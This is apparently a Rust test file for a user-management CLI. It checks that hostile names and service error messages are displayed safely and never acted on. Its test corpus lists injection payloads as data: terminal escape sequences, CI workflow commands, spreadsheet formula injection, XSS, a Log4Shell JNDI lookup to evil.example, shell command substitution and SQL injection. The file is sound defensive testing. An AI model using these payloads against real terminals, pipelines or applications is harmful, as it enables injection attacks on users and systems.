//! Names and messages that somebody chose to do harm: shown, never obeyed
//! (R56, R57, R58, R63).
use crate::support::hostile::{assert_harmless, plant_names};
use std::sync::Arc;

use crate::support::bench::{Bench, writes};
use crate::support::wire::{Tamper, answer};
use entractl::sandbox::seed::{cast, user_id};
use serde_json::json;

/// About 300 strings: each nasty piece in front, in the middle, at the end and
/// doubled.
pub(crate) fn corpus() -> Vec<String> {
    let pieces: Vec<String> = [
        "\u{1b}[2J",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{1b}P$q\"p\u{1b}\\",
        "\u{1b}_apc\u{1b}\\",
        "\u{1b}^pm\u{1b}\\",
        "\u{1b}[6n",
        "\u{1b}c",
        "\u{9b}2J",
        "\u{9d}0;x\u{9c}",
        "\u{90}q\u{9c}",
        "\u{85}next line",
        "\u{8d}",
        "\r",
        "\n",
        "\r\nGranted",
        "\n\nNext:\n  entractl users contain you",
        "\t\t",
        "\u{8}\u{8}\u{8}",
        "\u{b}",
        "\u{c}",
        "\u{0}",
        "\u{7f}",
        "\u{200b}",
        "\u{200c}",
        "\u{200d}",
        "\u{200e}",
        "\u{200f}",
        "\u{2028}",
        "\u{2029}",
        "\u{202a}",
        "\u{202d}",
        "\u{202e}gnp.exe",
        "\u{2060}",
        "\u{2063}",
        "\u{2066}\u{2069}",
        "\u{61c}",
        "\u{ad}",
        "\u{180e}",
        "\u{feff}",
        "\u{fff9}a\u{fffa}b\u{fffb}",
        "\u{e0001}\u{e0041}\u{e007f}",
        "\u{fe0f}",
        "\u{e0100}",
        "\u{ffff}\u{1fffe}",
        "\u{fdd0}",
        "\u{3164}",
        "\u{115f}",
        "\u{ffa0}",
        "\u{34f}",
        "::error::owned",
        "  ::set-output name=x::y",
        "\n::add-mask::x",
        "##vso[task.setvariable variable=x]y",
        "##[group]x",
        "##teamcity[x]",
        "=cmd|' /C calc'!A0",
        "+1",
        "-1+cmd",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "'=1",
        "\u{ff1d}1",
        "\",\"",
        "a;=1",
        "| a | b |",
        "[x](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "]]><x>&amp;",
        "{{x}}",
        "${jndi:ldap://evil.example}",
        "$(id)`id`",
        "'; drop table tasks; --",
        "--yes",
        "%s%n",
    ]
    .map(str::to_owned)
    .to_vec();
    let mut all = Vec::new();
    for piece in &pieces {
        all.push(piece.clone());
        all.push(format!("Ada {piece}"));
        all.push(format!("{piece} Admin"));
        all.push(format!("Ada{piece}{piece}Admin"));
    }
    assert!(all.len() >= 300, "{}", all.len());
    all
}

#[test]
fn no_name_of_a_tenant_moves_a_terminal_or_a_ci_job() {
    let id = user_id(cast::PLAIN);
    let mut bench = Bench::new();
    for (number, text) in corpus().into_iter().enumerate() {
        plant_names(&bench, &text);
        let what: String = text.chars().take(60).collect();
        // Every string in the two reports with most of a name in them, every
        // form of every piece somewhere in the others.
        let most = if number % 4 == (number / 4) % 4 { 7 } else { 2 };
        let lines = [
            format!("users show {id}"),
            "users list rowan -o csv".to_owned(),
            format!("users show {id} -o markdown"),
            format!("users disable {id} --dry-run"),
            format!("users contain {id}"),
            "apps discover".to_owned(),
            "apps bind s3 --client-id 5e700003-aaaa-4aaa-8aaa-00000000da7a".to_owned(),
        ];
        for line in lines.into_iter().take(most) {
            let ran = bench.run(&line);
            let exit = if line.starts_with("users contain") {
                13
            } else {
                0
            };
            assert_eq!(ran.exit, exit, "{what}: {}", ran.all());
            let out = ran.out.replace("\r\n", "\n");
            assert_harmless(&out, &format!("{line} on {what:?}"));
            assert_harmless(&ran.err, &format!("{line} on {what:?}"));
            assert!(ran.out.len() + ran.err.len() < 100_000, "{line} is not cut");
        }
    }
    assert_eq!(writes(&bench.requests()), 0);
}

#[test]
fn a_name_without_end_is_cut_but_in_json() {
    let id = user_id(cast::PLAIN);
    let mut bench = Bench::new();
    for text in ["x".repeat(1024 * 1024), "\u{1b}[".repeat(10_000)] {
        plant_names(&bench, &text);
        for line in [
            format!("users show {id}"),
            "users list rowan".to_owned(),
            format!("users contain {id}"),
        ] {
            let ran = bench.run(&line);
            assert_harmless(&ran.out, &line);
            assert_harmless(&ran.err, &line);
            assert!(ran.out.len() + ran.err.len() < 200_000, "{line} is not cut");
        }
        let json = bench
            .run(&format!("users show {id} -o json"))
            .exits(0)
            .json();
        assert!(json.to_string().len() > text.len());
    }
}

#[test]
fn no_name_gets_through_status_grant_or_its_reports() {
    let mut bench = Bench::new();
    for text in corpus().iter().step_by(7) {
        plant_names(&bench, text);
        let what: String = text.chars().take(60).collect();
        for line in [
            "status",
            "status -o markdown",
            "status -o csv",
            "status -o junit",
            "status -o sarif",
            "status -o openmetrics",
            "grant search --direct --dry-run",
            "grant search --url",
            "troubleshoot search",
        ] {
            let ran = bench.run(line);
            let unwritten = ran.err.contains("being written");
            assert!(ran.exit != 1 || unwritten, "{what}: {}", ran.all());
            let out = ran.out.replace("\r\n", "\n");
            assert_harmless(&out, &format!("{line} on {what:?}"));
            assert_harmless(&ran.err, &format!("{line} on {what:?}"));
        }
    }
}

#[test]
fn a_message_of_the_service_is_shown_and_not_obeyed() {
    for text in corpus().iter().step_by(3) {
        let mut bench = Bench::new();
        let body = json!({ "error": { "code": text, "message": text, "innerError": { "request-id": text } } });
        let login = json!({ "error": text, "error_description": text, "trace_id": text });
        let wire = Tamper::answering(&bench.sandbox, move |request| {
            let graph = request.uri().host() == Some("graph.sandbox.example");
            let body = if graph { &body } else { &login };
            Some(answer(
                if graph { 403 } else { 400 },
                &[("content-type", "application/json")],
                &body.to_string(),
            ))
        });
        bench.wire = Some(wire);
        for line in [
            "users list sam",
            "users list sam --debug",
            "users disable rowan.reyes-vale@meridian.example --yes",
            "auth login --for read --device-code",
        ] {
            let ran = bench.run(line);
            assert_ne!(ran.exit, 0, "{}", ran.all());
            assert_harmless(&ran.err, line);
            assert_harmless(&ran.out, line);
            assert!(ran.err.len() < 20_000, "{line}: not cut: {}", ran.err.len());
        }
    }
}

#[test]
fn json_gives_every_name_back_as_it_is() {
    let id = user_id(cast::PLAIN);
    let mut bench = Bench::new();
    for text in corpus() {
        plant_names(&bench, &text);
        for form in ["json", "jsonl"] {
            let ran = bench.run(&format!("users show {id} -o {form}")).exits(0);
            assert_harmless(&ran.out, "JSON");
            let shown = ran.json().to_string();
            let wanted = serde_json::to_string(&text).unwrap();
            assert!(shown.contains(&wanted), "{form}: {shown}");
        }
    }
}

#[test]
fn a_lone_surrogate_hides_nobody() {
    let mut bench = Bench::new();
    let wire = Tamper::changing(&bench.sandbox, |_, response| {
        let text = String::from_utf8_lossy(response.body().as_bytes()).into_owned();
        let text = text.replace("Rowan Reyes", "Row\\ud800n \\udc00\\ud83d\\ude00");
        response.map(|_| text.into_bytes().into())
    });
    bench.wire = Some(Arc::clone(&wire) as _);
    let id = user_id(cast::PLAIN);
    let ran = bench.run(&format!("users show {id} -o json")).exits(0);
    assert!(
        ran.out.contains("Row\u{fffd}n \u{fffd}\u{1f600}"),
        "{}",
        ran.out
    );
    bench.run(&format!("users show {id}")).exits(0);
}

#[test]
fn a_question_repeats_the_object_id_whatever_the_name_is() {
    let id = user_id(cast::PLAIN);
    for text in corpus().iter().step_by(10) {
        let mut bench = Bench::new();
        plant_names(&bench, text);
        bench.typed = Some("n\n".to_owned());
        let ran = bench
            .run(&format!("users contain {}", cast::PLAIN))
            .exits(13);
        assert!(ran.err.contains(&id), "{}", ran.err);
        assert_eq!(writes(&bench.requests()), 0);
    }
}
